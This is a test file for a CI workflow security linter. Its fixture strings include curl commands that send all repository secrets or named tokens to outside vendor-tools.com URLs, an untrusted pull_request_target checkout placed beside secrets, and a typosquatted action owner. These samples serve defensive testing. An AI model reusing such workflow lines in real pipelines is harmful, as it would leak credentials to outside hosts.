import { describe, expect, it } from 'vitest'
import { workflow } from '../../src/rules/_workflow.ts'

const worst = (text: string): string[] => [...workflow(text)].filter(({ level }) => level !== 'note').map(({ level, says }) => `${level} ${says}`)

/** An expression of a workflow. */
const put = (name: string): string => `$\{{ ${name} }}`

describe('workflows', () => {
  it('tell of all secrets that a step sends, or a variable of the job', () => {
    const step = `- name: coverage\n  env: { ALL: "${put('toJSON(secrets)')}" }\n  run: curl -s https://cov.vendor-tools.com/up -d "$ALL"\n`
    expect(worst(step)).toEqual(['error sends all secrets of the repository to `https://cov.vendor-tools.com/up`'])
    const job = `env:\n  EVERYTHING: ${put('toJSON(secrets)')}\nsteps:\n  - run: make\n  - run: |\n      curl -s -d "$EVERYTHING" https://ci.vendor-tools.com/c\n`
    expect(worst(job)).toEqual(['error sends all secrets of the repository to `https://ci.vendor-tools.com/c`'])
  })

  it('tell of several secrets in one request, and not of the one that a service is given', () => {
    const both = `- run: |\n    curl https://metrics.vendor-tools.com/x \\\n      -d "a=${put('secrets.NPM_TOKEN')}" -d "b=${put('secrets.AWS_SECRET_ACCESS_KEY')}"\n`
    expect(worst(both)).toEqual(['error sends 2 secrets of the repository to `https://metrics.vendor-tools.com/x`'])
    expect(worst(`- run: curl -d "token=${put('secrets.CODECOV_TOKEN')}" https://codecov.io/upload\n`)).toEqual([])
    expect(worst(`- run: curl -H "Authorization: Bearer ${put('secrets.A_KEY')}" -H "X: ${put('secrets.B_KEY')}" -d x=1 https://api.render.com/v1\n`)).toEqual(
      [],
    )
  })

  it('tell of strangers’ code beside secrets', () => {
    const text = (rights: string, secret: string): string =>
      `on: pull_request_target\n${rights}steps:\n  - uses: actions/checkout@v4\n    with:\n      ref: ${put('github.event.pull_request.head.sha')}\n  - run: npm test\n${secret}`
    expect(worst(text('permissions: write-all\n', `    env: { K: "${put('secrets.DEPLOY_KEY')}" }\n`)).join()).toMatch(/^error runs code/)
    expect(worst(text('', '')).join()).toMatch(/^warning runs code/)
    expect(worst('on: pull_request_target\nsteps:\n  - uses: actions/labeler@v5\n')).toEqual([])
  })

  it('tell of an owner who imitates another', () => {
    expect(worst('- uses: actons/setup-cache@main\n').join()).toMatch(/^error .*`actions`/)
    expect(worst('- uses: actions/cache@v4\n- uses: docker/login-action@v3\n- uses: action-semantic/pull@v1\n')).toEqual([])
  })
})
